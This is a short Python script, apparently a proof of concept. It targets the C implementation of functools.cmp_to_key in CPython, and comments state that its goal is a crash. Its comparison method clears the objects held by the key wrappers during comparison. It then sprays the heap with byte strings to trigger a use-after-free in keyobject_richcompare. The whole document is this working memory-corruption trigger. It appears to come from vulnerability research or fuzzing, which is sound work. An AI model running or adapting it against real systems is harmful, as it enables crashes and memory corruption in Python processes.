# technique: the object behind a cmp_to_key key is replaced while it is compared
# goal: crash
# source: own analysis: keyobject_richcompare() in _functoolsmodule.c
import functools
import operator


class Item:
    def __lt__(self, other):
        a.obj = b.obj = None
        junk.extend(bytes(b'A' * n) for n in range(8, 400, 8)
                    for i in range(20))
        return NotImplemented


junk = []
key = functools.cmp_to_key(operator.lt)
for i in range(50):
    a, b = key(Item()), key(Item())
    try:
        a < b
    except TypeError:
        pass
